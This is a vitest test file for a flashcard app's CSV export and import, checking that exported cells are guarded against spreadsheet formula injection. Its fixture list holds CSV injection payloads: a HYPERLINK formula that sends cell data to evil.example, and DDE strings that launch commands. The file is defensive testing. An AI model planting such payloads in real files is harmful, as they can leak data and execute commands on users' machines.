// Every CSV the app writes keeps formulas dead (a leading apostrophe on cells a spreadsheet would run),
// and importing a Factdeck CSV takes the guard off again: the text comes back exactly as it was.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { createBackend } from '../../../src/backend/backend.js';
import type { Deck } from '../../../src/core/deck.js';
import { parseImport } from '../../../src/core/formats/import.js';
import { toCsv } from '../../../src/core/formats/csv-export.js';
import { csvCell } from '../../../src/core/reports/csv.js';
import { tempDir } from '../../helpers/tmp.js';
import { utf8 } from './helpers.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"A0")', '-2+3', '@SUM(A1:A9)',
  '\t=1+1', '\r=1+1', "'=1+1", "''", "'plain", '=', 'line one\n=line two', ' =spaced', 'a\tb', '-', 'plain text',
];

const deck: Deck = {
  format: 'factdeck/1', id: 'hostile', title: 'Hostile', source: null, generator: null,
  cards: HOSTILE.map((t, i) => ({
    id: i % 2 ? `=id${i}` : `c${i}`, kind: 'choice' as const, prompt: t, answer: t, choices: [t, 'other'], tags: ['-tag'],
    evidence: { sentence: t, start: 0, end: t.length }, fact: `+f${i}`,
  })),
};

/** A cell a spreadsheet would run: starts with = + - @, possibly after tabs, CRs or spaces. */
const live = (cell: string) => /^[\t\r ]*[=+\-@]/.test(cell);

describe('CSV formula guard', () => {
  it('no cell of a deck export starts a formula', () => {
    const rows = Papa.parse<string[]>(toCsv(deck).replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
    expect(rows.length).toBe(HOSTILE.length + 1);
    for (const row of rows) for (const cell of row) expect(live(cell), JSON.stringify(cell)).toBe(false);
  });

  it('a Factdeck CSV imports back to exactly the text it was made from', async () => {
    const r = await parseImport(utf8(toCsv(deck)), 'hostile.csv');
    expect(r.deck.cards).toEqual(deck.cards);
  });

  it('a plain CSV keeps a leading tab or CR: "\\t=1+1" stays "\\t=1+1"', async () => {
    const r = await parseImport(utf8('front,back\n"\t=1+1",two\n"\r=1",three\n" spaced ",four\n'), 'plain.csv');
    expect(r.deck.cards.map((c) => c.prompt)).toEqual(['\t=1+1', '\r=1', ' spaced ']);
  });

  it('the report CSV guards cells the same way', () => {
    for (const t of HOSTILE) expect(live(Papa.parse<string[]>(csvCell(t)).data[0]![0]!), JSON.stringify(t)).toBe(false);
  });

  it('through the Api: exportDeck csv, then importFile, gives the same cards', async () => {
    const api = createBackend(tempDir(), { builtinDir: tempDir() });
    try {
      await api.saveDeck({ deck });
      const file = await api.exportDeck({ id: 'hostile', format: 'csv' });
      const text = Buffer.from(file.data, 'base64').toString('utf8');
      for (const row of Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data) for (const cell of row) expect(live(cell)).toBe(false);
      const imported = await api.importFile({ name: file.fileName, data: file.data });
      expect((await api.getDeck({ id: imported.id })).cards).toEqual(deck.cards);
    } finally {
      api.close();
    }
  });
});
